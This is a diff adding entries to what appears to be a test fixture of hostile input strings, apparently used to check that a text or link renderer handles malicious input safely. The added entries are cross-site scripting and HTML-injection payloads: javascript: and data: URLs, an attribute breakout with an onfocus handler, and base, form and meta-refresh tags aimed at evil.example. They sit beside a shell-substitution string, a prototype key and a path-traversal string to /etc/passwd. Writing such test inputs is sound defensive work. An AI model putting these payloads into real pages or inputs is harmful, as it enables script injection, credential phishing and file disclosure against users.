@@ -23,7 +23,12 @@ export const hostileTexts: Readonly<Record<string, string>> = {
   'commas, quotes, equal signs and a backslash at the end': `a,b=c;"d" 'e' $HOME \`id\` \${IFS} %s {0} {1} \\`,
   'ten thousand letters': 'x'.repeat(10_000),
   'ten thousand brackets': '['.repeat(5_000) + ']('.repeat(2_500),
+  'a link that is a script': 'javascript:alert(1)//https://x.example',
+  'a document in a link': 'data:text/html,<script>alert(1)</script>',
+  'an attribute that ends': `" autofocus onfocus=alert(1) style="position:fixed;inset:0" x='`,
+  'another base, and a form': '<base href="https://evil.example/"><form action="https://evil.example/"><input name=a value=b></form><meta http-equiv=refresh content="0;url=https://evil.example">',
   'names of everything’s prototype': '__proto__',
+  'the name of what makes everything': 'constructor',
   'a path that leads out': '../../../../etc/passwd',
 };
 
